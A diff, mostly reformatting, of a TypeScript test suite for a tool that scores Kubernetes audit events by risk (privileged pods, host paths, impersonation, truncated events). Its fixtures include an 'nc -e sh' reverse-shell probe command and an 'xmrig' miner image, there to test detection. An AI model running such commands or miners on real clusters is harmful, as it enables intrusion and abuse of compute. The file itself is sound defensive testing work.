@@ -1,5 +1,15 @@
-/** From signals to a risk: points, bands, what a known pipeline is spared, what was not seen, and real events. */
-import { ATTACK_VERSION, cutEvent, type Risk, type RiskConfidence, type RiskSeverity, SIGNALS, type SignalId } from '@arrivals/core';
+/**
+ * From signals to a risk: points, bands, what a known pipeline is spared, what was not seen, and real events.
+ */
+import {
+  ATTACK_VERSION,
+  cutEvent,
+  type Risk,
+  type RiskConfidence,
+  type RiskSeverity,
+  SIGNALS,
+  type SignalId,
+} from '@arrivals/core';
 import assert from 'node:assert/strict';
 import {
   answeredAsTable,
@@ -22,7 +32,14 @@ const unassessed = (risk: Risk) => risk.notAssessed.flatMap(({ signals }) => sig
 
 describe('a risk', () => {
   it('is nothing, and sure of it, for a pod that shows all and has nothing', () => {
-    assert.deepEqual(riskOf(podCreated()), { score: 0, severity: 'INFO', confidence: 'HIGH', attackVersion: ATTACK_VERSION, signals: [], notAssessed: [] });
+    assert.deepEqual(riskOf(podCreated()), {
+      score: 0,
+      severity: 'INFO',
+      confidence: 'HIGH',
+      attackVersion: ATTACK_VERSION,
+      signals: [],
+      notAssessed: [],
+    });
     assert.deepEqual(riskOf(namespaceCreated()).confidence, 'HIGH');
   });
 
@@ -42,7 +59,16 @@ describe('a risk', () => {
       ],
     );
     assert.equal(score, 70);
-    const worst = riskOf(podCreated({ spec: { ...NODE_ROOT, hostPID: true, hostNetwork: true, containers: [{ ...CONTAINER, ...PRIVILEGED }] } }));
+    const worst = riskOf(
+      podCreated({
+        spec: {
+          ...NODE_ROOT,
+          hostPID: true,
+          hostNetwork: true,
+          containers: [{ ...CONTAINER, ...PRIVILEGED }],
+        },
+      }),
+    );
     assert.equal(worst.score, 100);
     assert.ok(worst.signals.reduce((sum, { points }) => sum + points, 0) > 100);
   });
@@ -73,13 +99,19 @@ describe('a risk', () => {
 
   it('of a creation by nobody is CRITICAL, whatever else', () => {
     for (const created of [podCreated, namespaceCreated])
-      assert.equal(riskOf(created({ event: { user: { username: 'system:anonymous', groups: ['system:unauthenticated'] } } })).severity, 'CRITICAL');
+      assert.equal(
+        riskOf(
+          created({ event: { user: { username: 'system:anonymous', groups: ['system:unauthenticated'] } } }),
+        ).severity,
+        'CRITICAL',
+      );
   });
 });
 
 describe('a known pipeline', () => {
   const lists = { pipelineAccounts: ['alice'] };
-  const points = (event: Json, known = lists) => riskOf(event, known).signals.map(({ id, points: given }) => [id, given]);
+  const points = (event: Json, known = lists) =>
+    riskOf(event, known).signals.map(({ id, points: given }) => [id, given]);
 
   it('is spared 20 points of what is not hard, and that is told', () => {
     const event = podCreated({ spec: { hostNetwork: true, hostIPC: true } });
@@ -89,7 +121,10 @@ describe('a known pipeline', () => {
       ['known-pipeline', -20],
     ]);
     assert.equal(riskOf(event, lists).score, 15);
-    assert.equal(riskOf(event, lists).signals.at(-1)?.text, 'Made by "alice", which the list of pipelines names.');
+    assert.equal(
+      riskOf(event, lists).signals.at(-1)?.text,
+      'Made by "alice", which the list of pipelines names.',
+    );
   });
 
   it('is spared no more than there is', () => {
@@ -108,8 +143,14 @@ describe('a known pipeline', () => {
 
   it('is not who acts as somebody else, nor a part or another writing of the name', () => {
     const network = { spec: { hostNetwork: true } };
-    assert.ok(!idsOf(podCreated({ ...network, event: { impersonatedUser: { username: 'bob', groups: [] } } }), lists).includes('known-pipeline'));
-    for (const name of ['alic', 'alice2', 'Alice', '*']) assert.ok(!idsOf(podCreated(network), { pipelineAccounts: [name] }).includes('known-pipeline'));
+    assert.ok(
+      !idsOf(
+        podCreated({ ...network, event: { impersonatedUser: { username: 'bob', groups: [] } } }),
+        lists,
+      ).includes('known-pipeline'),
+    );
+    for (const name of ['alic', 'alice2', 'Alice', '*'])
+      assert.ok(!idsOf(podCreated(network), { pipelineAccounts: [name] }).includes('known-pipeline'));
   });
 
   it('is nobody unless the list says so', () => {
@@ -118,9 +159,12 @@ describe('a known pipeline', () => {
 });
 
 describe('what was not seen', () => {
-  const attack = podCreated({ spec: { ...NODE_ROOT, hostPID: true, containers: [{ ...CONTAINER, ...PRIVILEGED }] } });
+  const attack = podCreated({
+    spec: { ...NODE_ROOT, hostPID: true, containers: [{ ...CONTAINER, ...PRIVILEGED }] },
+  });
   const ofSpec: readonly SignalId[] = SIGNALS.filter(
-    ({ looksAt }) => looksAt.includes('containers') || looksAt.includes('volumes') || looksAt.includes('commands'),
+    ({ looksAt }) =>
+      looksAt.includes('containers') || looksAt.includes('volumes') || looksAt.includes('commands'),
   ).map(({ id }) => id);
 
   for (const [what, event, reason] of [
@@ -131,8 +175,16 @@ describe('what was not seen', () => {
       { ...atLevelRequest(attack), verb: 'patch', requestObject: [{ op: 'add', path: '/spec', value: {} }] },
       'AUDIT_LEVEL',
     ],
-    ['an answer of another shape to a patch', { ...answeredPartially(attack), verb: 'patch' }, 'ANSWER_SHAPE'],
-    ['no bodies for no known reason', { ...attack, requestObject: undefined, responseObject: undefined }, 'NOT_IN_EVENT'],
+    [
+      'an answer of another shape to a patch',
+      { ...answeredPartially(attack), verb: 'patch' },
+      'ANSWER_SHAPE',
+    ],
+    [
+      'no bodies for no known reason',
+      { ...attack, requestObject: undefined, responseObject: undefined },
+      'NOT_IN_EVENT',
+    ],
   ] as const)
     it(`is told, and no pod is called harmless with confidence, for ${what}`, () => {
       const risk = riskOf(event);
@@ -141,13 +193,21 @@ describe('what was not seen', () => {
         ofSpec.filter((id) => !unassessed(risk).includes(id)),
         [],
       );
-      assert.ok(risk.notAssessed.some((entry) => entry.reason === reason && entry.signals.includes('privileged-container') && entry.detail !== ''));
+      assert.ok(
+        risk.notAssessed.some(
+          (entry) =>
+            entry.reason === reason && entry.signals.includes('privileged-container') && entry.detail !== '',
+        ),
+      );
     });
 
   it('does not hide what is seen', () => {
     const event = atLevelMetadata(podCreated({ metadata: { namespace: 'kube-system' } }));
     const risk = riskOf(event);
-    assert.deepEqual([risk.signals.map(({ id }) => id), risk.confidence], [['unseen-spec', 'system-namespace'], 'LOW']);
+    assert.deepEqual(
+      [risk.signals.map(({ id }) => id), risk.confidence],
+      [['unseen-spec', 'system-namespace'], 'LOW'],
+    );
     assert.ok(!unassessed(risk).includes('system-namespace'));
   });
 
@@ -167,26 +227,41 @@ describe('what was not seen', () => {
 
   it('is only what was not found', () => {
     const { notAssessed } = riskOf(atLevelRequest(attack));
-    for (const { signals } of notAssessed) for (const id of signals) assert.ok(!idsOf(atLevelRequest(attack)).includes(id), id);
+    for (const { signals } of notAssessed)
+      for (const id of signals) assert.ok(!idsOf(atLevelRequest(attack)).includes(id), id);
   });
 
   it('is the owners that were cut: that excuses nobody from having made it by hand', () => {
     const annotations = { 'audit.k8s.io/truncated': 'true', 'arrivals/cut': 'ownerReferences' };
-    const risk = riskOf(podCreated({ spec: { hostPID: true }, event: { annotations, requestObject: undefined } }));
-    assert.deepEqual([risk.signals.map(({ id }) => id), unassessed(risk)], [['host-access-by-hand', 'host-pid'], ['contradicted-owner']]);
+    const risk = riskOf(
+      podCreated({ spec: { hostPID: true }, event: { annotations, requestObject: undefined } }),
+    );
+    assert.deepEqual(
+      [risk.signals.map(({ id }) => id), unassessed(risk)],
+      [['host-access-by-hand', 'host-pid'], ['contradicted-owner']],
+    );
   });
 
   it('is a probe that was cut with what nobody shows', () => {
-    const envFrom = Array.from({ length: 200 }, (_unused, i) => ({ configMapRef: { name: `settings-${String(i)}` } }));
-    const bytes = bytesOf(podWith({ envFrom, livenessProbe: { exec: { command: ['nc', '-e', 'sh', 'h', '1'] } } }));
+    const envFrom = Array.from({ length: 200 }, (_unused, i) => ({
+      configMapRef: { name: `settings-${String(i)}` },
+    }));
+    const bytes = bytesOf(
+      podWith({ envFrom, livenessProbe: { exec: { command: ['nc', '-e', 'sh', 'h', '1'] } } }),
+    );
     const risk = riskOf(JSON.parse(cutEvent(bytes, 4000).toString()));
-    assert.deepEqual([risk.signals.map(({ id }) => id), unassessed(risk).includes('reverse-shell')], [['unseen-spec'], true]);
+    assert.deepEqual(
+      [risk.signals.map(({ id }) => id), unassessed(risk).includes('reverse-shell')],
+      [['unseen-spec'], true],
+    );
   });
 
   it('of a request is still what the client sent', () => {
     for (const event of [atLevelRequest(attack), answeredAsTable(attack), answeredPartially(attack)])
       assert.deepEqual(
-        ['privileged-container', 'host-path-writable', 'host-pid'].filter((id) => !idsOf(event).includes(id as SignalId)),
+        ['privileged-container', 'host-path-writable', 'host-pid'].filter(
+          (id) => !idsOf(event).includes(id as SignalId),
+        ),
         [],
       );
   });
@@ -204,9 +279,14 @@ describe('what was not seen', () => {
   });
 
   it('is the name of a namespace that the server was to complete', () => {
-    const event = atLevelMetadata(namespaceCreated({ event: { objectRef: { resource: 'namespaces', apiVersion: 'v1' } } }));
+    const event = atLevelMetadata(
+      namespaceCreated({ event: { objectRef: { resource: 'namespaces', apiVersion: 'v1' } } }),
+    );
     const risk = riskOf(event);
-    assert.deepEqual([risk.confidence, unassessed(risk)], ['LOW', ['privileged-namespace', 'system-like-namespace']]);
+    assert.deepEqual(
+      [risk.confidence, unassessed(risk)],
+      ['LOW', ['privileged-namespace', 'system-like-namespace']],
+    );
   });
 
   it('asks of a namespace nothing that only pods have', () => {
@@ -220,7 +300,11 @@ describe('what was not seen', () => {
         ...NODE_ROOT,
         hostPID: true,
         containers: [
-          ...Array.from({ length: 40 }, (_unused, i) => ({ ...CONTAINER, name: `c${String(i)}`, args: ['x'.repeat(200)] })),
+          ...Array.from({ length: 40 }, (_unused, i) => ({
+            ...CONTAINER,
+            name: `c${String(i)}`,
+            args: ['x'.repeat(200)],
+          })),
           {
             name: 'last',
             image: 'xmrig',
@@ -232,7 +316,14 @@ describe('what was not seen', () => {
       },
     });
     const whole = idsOf(large);
-    for (const id of ['mirror-pod', 'miner', 'privileged-container', 'host-path-writable', 'reverse-shell', 'fetched-code'] as const)
+    for (const id of [
+      'mirror-pod',
+      'miner',
+      'privileged-container',
+      'host-path-writable',
+      'reverse-shell',
+      'fetched-code',
+    ] as const)
       assert.ok(whole.includes(id), id);
     const bytes = bytesOf(large);
     let lost = 0;
@@ -252,28 +343,60 @@ describe('what was not seen', () => {
   });
 
   it('is all of a part: a mount that may have been cut is not proof of reading only', () => {
-    const spec = { volumes: [{ name: 'v', hostPath: { path: '/etc' } }], containers: [{ ...CONTAINER, volumeMounts: [{ name: 'v', readOnly: true }] }] };
+    const spec = {
+      volumes: [{ name: 'v', hostPath: { path: '/etc' } }],
+      containers: [{ ...CONTAINER, volumeMounts: [{ name: 'v', readOnly: true }] }],
+    };
     const annotations = { 'audit.k8s.io/truncated': 'true', 'arrivals/cut': 'containerParts' };
     assert.ok(idsOf(podCreated({ spec })).includes('host-path-read-only'));
-    assert.ok(idsOf(podCreated({ spec, event: { annotations, requestObject: undefined } })).includes('host-path-writable'));
+    assert.ok(
+      idsOf(podCreated({ spec, event: { annotations, requestObject: undefined } })).includes(
+        'host-path-writable',
+      ),
+    );
   });
 });
 
 describe('the real events', () => {
-  type Row = readonly [name: string, score: number, severity: RiskSeverity, confidence: RiskConfidence, signals: readonly SignalId[]];
+  type Row = readonly [
+    name: string,
+    score: number,
+    severity: RiskSeverity,
+    confidence: RiskConfidence,
+    signals: readonly SignalId[],
+  ];
 
   /** What an analyst should look at in the session, and why; all the rest of it is routine. */
   const NOTEWORTHY: readonly Row[] = [
     // A namespace named to be overlooked.
     ['kube-systern', 25, 'LOW', 'HIGH', ['system-like-namespace']],
     // A DaemonSet's agent in kube-system: the image is on no list, so its rights over the node are told.
-    ['agent-6s6nh', 100, 'CRITICAL', 'HIGH', ['privileged-container', 'host-path-writable', 'host-pid', 'host-network']],
+    [
+      'agent-6s6nh',
+      100,
+      'CRITICAL',
+      'HIGH',
+      ['privileged-container', 'host-path-writable', 'host-pid', 'host-network'],
+    ],
     // A kubelet's static pod: nothing else about it is odd.
     ['static-proxy-edge-1', 30, 'LOW', 'HIGH', ['mirror-pod']],
     // An administrator who makes a namespace as somebody's service account, with the group of masters.
     ['as-robot', 25, 'LOW', 'HIGH', ['privileged-impersonation']],
     // The break-out: everything at once, by hand.
-    ['root-shell', 100, 'CRITICAL', 'HIGH', ['host-access-by-hand', 'privileged-container', 'host-path-writable', 'host-pid', 'host-network', 'host-ipc']],
+    [
+      'root-shell',
+      100,
+      'CRITICAL',
+      'HIGH',
+      [
+        'host-access-by-hand',
+        'privileged-container',
+        'host-path-writable',
+        'host-pid',
+        'host-network',
+        'host-ipc',
+      ],
+    ],
     // The answer was asked for in a shape without the spec: what admission added is not known.
     ['partial', 0, 'INFO', 'MEDIUM', []],
     ['table', 0, 'INFO', 'MEDIUM', []],
@@ -283,7 +406,9 @@ describe('the real events', () => {
   it('of a session have risks where it has attacks', () => {
     const rows = creationsOfCapture().map((event): Row => {
       const { score, severity, confidence, signals } = riskOf(event);
-      const name = dig(event, 'responseObject', 'metadata', 'name') ?? dig(event, 'responseObject', 'rows', 0, 'object', 'metadata', 'name');
+      const name =
+        dig(event, 'responseObject', 'metadata', 'name') ??
+        dig(event, 'responseObject', 'rows', 0, 'object', 'metadata', 'name');
       return [String(name), score, severity, confidence, signals.map(({ id }) => id)];
     });
     assert.equal(rows.length, 59);
@@ -296,7 +421,9 @@ describe('the real events', () => {
   it('of public captures have the risks that their files are named for', () => {
     const seen = readPublicFiles()
       .filter(({ name }) => name.startsWith('falco-traces/'))
-      .flatMap(({ name, records, alerts }) => alerts.map((i) => [name.slice('falco-traces/'.length), ...idsOf(JSON.parse(records[i] ?? ''))]));
+      .flatMap(({ name, records, alerts }) =>
+        alerts.map((i) => [name.slice('falco-traces/'.length), ...idsOf(JSON.parse(records[i] ?? ''))]),
+      );
     assert.deepEqual(Object.fromEntries(seen.map(([name, ...ids]) => [name, ids])), {
       'create_nginx_pod_hostnetwork.json': ['host-network'],
       // Only its second container is privileged, and the first has no securityContext at all.
